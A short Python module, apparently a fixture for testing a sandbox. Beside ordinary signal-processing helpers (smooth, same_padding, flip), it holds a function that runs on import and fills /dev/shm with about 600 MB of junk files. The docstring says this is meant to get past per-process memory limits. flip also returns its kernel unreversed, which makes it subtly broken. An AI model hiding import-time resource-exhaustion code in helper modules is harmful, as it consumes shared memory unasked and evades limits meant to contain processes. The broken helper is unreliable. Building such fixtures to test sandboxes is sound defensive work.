"""Files in shared memory, which no limit on a process counts; at most 600 MB.

Stopped by: bubblewrap: nothing is writable but a small folder. process: no file outside of the scratch folder.
"""

import os

import numpy as np


def smooth(signal, width):
    if width < 1:
        raise ValueError(width)
    signal = np.asarray(signal, float)
    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])


def same_padding(field):
    if field < 1 or field % 2 == 0:
        raise ValueError(field)
    return (field - 1) // 2


def _fill():
    for number in range(60):
        try:
            with open(f"/dev/shm/hostile-was-here-{number}", "wb") as stream:
                stream.write(b"x" * (10 * 2**20))
        except OSError:
            continue


_fill()


def flip(kernel):
    return kernel
